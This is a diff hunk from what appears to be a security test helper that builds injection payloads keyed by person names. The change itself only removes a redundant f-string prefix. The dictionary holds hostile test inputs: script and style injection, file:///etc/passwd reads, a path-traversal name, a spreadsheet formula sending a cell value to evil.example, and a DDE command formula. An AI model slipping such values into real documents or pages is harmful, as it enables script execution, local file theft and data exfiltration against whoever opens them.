@@ -54,7 +54,7 @@ def payloads(url: str) -> dict[str, str]:
         "Anna Snelling": "<script>alert('x')</script>Anna",
         "Boris Faz": f'<img src="{url}/img"><img src="file:///etc/passwd">Boris',
         "Cecily Lampkin": f"Cecily</td><style>body{{background:url({url}/css)}}</style>",
-        "Corliss Cosme": f'Corliss" style="background:url(file:///etc/passwd)" x="',
+        "Corliss Cosme": 'Corliss" style="background:url(file:///etc/passwd)" x="',
         "Daniell Hammack": "../../../../tmp/okr-escape",
         "Donn Cantrell": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
         "Gladys Colclough": "+cmd|'/C calc'!A0",
